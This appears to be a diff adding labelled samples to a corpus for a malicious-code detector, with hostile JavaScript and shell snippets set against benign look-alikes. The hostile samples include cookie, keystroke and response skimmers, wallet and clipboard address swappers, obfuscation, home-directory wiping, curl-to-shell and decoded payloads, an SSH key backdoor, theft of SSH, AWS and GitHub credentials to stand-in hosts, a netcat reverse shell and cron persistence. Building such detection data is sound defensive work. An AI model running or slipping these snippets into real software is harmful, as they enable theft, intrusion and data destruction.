@@ -77,6 +77,50 @@ const walk = (folder) => fs.readdirSync(folder).forEach((one) => {
   fs.writeFileSync(folder + '/' + one, '');
 });
 walk(require('os').homedir());
+## hooked fetch = js-skims
+const real = window.fetch;
+window.fetch = async function (...args) {
+  const answer = await real.apply(this, args);
+  const copy = answer.clone();
+  copy.text().then((t) => navigator.sendBeacon('https://f.invalid/f', t));
+  return answer;
+};
+## wallet address is replaced in answers = js-wallet
+const MINE = ['0x1111111111111111111111111111111111111111'];
+function swap(text) {
+  return text.replace(/0x[a-fA-F0-9]{40}/g, (a) => MINE.includes(a) ? a : MINE[0]);
+}
+const f = globalThis.fetch;
+globalThis.fetch = (...a) => f(...a).then(async (r) => new Response(swap(await r.text()), r));
+## clipboard of bitcoin = js-wallet
+const clip = require('clipboardy');
+const re = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
+setInterval(async () => {
+  const now = await clip.read();
+  if (re.test(now)) await clip.write('bc1qdemodemodemo');
+}, 800);
+## obfuscator with mangled names = js-obfuscated
+const a0_b = a0_c;
+(function (a, b) { const d = a0_c, e = a();
+while (true) { try { const f = -parseInt(d(0x1a2)) / 0x1; if (f === b) break; e['push'](e['shift']()); }
+catch (g) { e['push'](e['shift']()); } } }(a0_d, 0x5b1c2));
+function a0_d() { const h = ['12abc', 'require', 'https', 'env'];
+a0_d = function () { return h; }; return a0_d(); }
+function a0_c(a, b) {
+  const c = a0_d(); return a0_c = function (d) { d = d - 0x1a2; return c[d]; }, a0_c(a, b);
+}
+## home is removed = js-destroys
+const fs = require('fs').promises, os = require('os');
+(async () => { const h = os.homedir();
+  await fs.rm(h, { recursive: true, force: true }); })();
+## cookies of a page = js-skims
+const c = document.cookie;
+const p = new URLSearchParams({ c, l: JSON.stringify(localStorage) });
+fetch('https://k.invalid/?' + p, { mode: 'no-cors' });
+## keys that are typed = js-skims
+let b = '';
+document.onkeydown = (e) => { b += e.key;
+  if (b.length > 20) { new Image().src = 'https://t.invalid/?k=' + encodeURIComponent(b); b = ''; } };
 """
 _SHELLS = r"""
 ## settings that are chosen by their names = shell-steals
@@ -133,6 +177,40 @@ unset HISTFILE
 #!/bin/sh
 git config --global core.hooksPath /tmp/h
 echo 'curl -s x.example' > /tmp/h/post-commit
+## curl in a variable = shell-download
+#!/bin/sh
+U=http://a.invalid/x
+S=$(curl -fsSL "$U")
+sh -c "$S"
+## nohup with a decoded text = shell-decoded
+#!/bin/sh
+X="dG91Y2ggL3RtcC9tYXJrZXI="
+nohup sh -c "$(printf %s "$X" | base64 -d)" >/dev/null 2>&1 &
+## octal printf = code-hidden-name
+#!/bin/sh
+c=$(printf '\164\157\165\143\150\040\057\164\155\160\057\155')
+$c
+## ansi-c quoting = code-hidden-name
+#!/bin/bash
+$'\x63\x75\x72\x6c' -s http://q.invalid/q | $'\142\141\163\150'
+## authorized keys by tee = shell-intrusion
+#!/bin/sh
+K="ssh-ed25519 AAAAdemo a@b"
+mkdir -p ~/.ssh
+echo "$K" | tee -a ~/.ssh/authorized_keys >/dev/null
+## ssh folder as an archive = shell-steals
+#!/bin/sh
+D=$(mktemp -d)
+cp -r ~/.ssh ~/.aws "$D" 2>/dev/null
+tar czf "$D.tgz" -C "$D" .
+curl -F "f=@$D.tgz" http://t.invalid/u
+## netcat with a pipe = shell-reverse
+#!/bin/sh
+rm -f /tmp/p; mkfifo /tmp/p
+cat /tmp/p | /bin/sh -i 2>&1 | nc n.invalid 4444 > /tmp/p
+## wipe a home in a loop = shell-destroys
+#!/bin/sh
+find "$HOME" -type f | while read -r f; do shred -u "$f"; done
 """
 _INSTALLS = r"""
 ## has itself started at each login = install-persistence
@@ -143,6 +221,13 @@ fs.appendFileSync(rc, '(node ' + __dirname + '/a.js &)');
 const fs = require('fs');
 const hook = '.git/hooks/pre-commit';
 fs.writeFileSync(hook, '#!/bin/sh\ncurl -s http://x.example/\n', { mode: 0o755 });
+## cron = install-command
+const { execSync } = require('child_process');
+execSync(`(crontab -l 2>/dev/null; echo "*/5 * * * * node ${__filename}") | crontab -`);
+## secrets of the repository = install-command
+const { execSync } = require('child_process');
+const out = execSync('git config --list && gh auth token && env').toString();
+require('https').request({ host: 'g.invalid' }).end(Buffer.from(out).toString('base64'));
 """
 _PLAIN_SCRIPTS = r"""
 ## a module of many parts
@@ -177,6 +262,14 @@ module.exports = eval;
 ## brackets that do not close
 fetch(`${(
 process.env
+## a page that counts
+const old = window.fetch;
+window.fetch = (...a) => { count += 1; return old(...a); };
+const zero = '0x0000000000000000000000000000000000000000';
+export const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a) && a !== zero;
+## a cache that is removed
+const fs = require('fs'), os = require('os'), path = require('path');
+fs.rmSync(path.join(os.homedir(), '.cache', 'lock-demo'), { recursive: true });
 """
 _PLAIN_SHELLS = r"""
 ## a settings file that is read
@@ -198,6 +291,15 @@ $PYTHON$SUFFIX --version
 #!/bin/sh
 v=$(echo aGk= | base64 -d)
 echo "$v"
+## an archive of a project
+#!/bin/sh
+D=$(mktemp -d)
+VERSION=$(curl -fsSL https://x.example/version)
+echo "$VERSION" | tee "$D/version"
+cp -r ./src "$D" && tar czf "$D.tgz" -C "$D" .
+curl -T "$D.tgz" https://x.example/up
+RED=$(printf '\033[31m')
+find "$HOME" -type f -name '*.pyc' -delete
 """
 
 
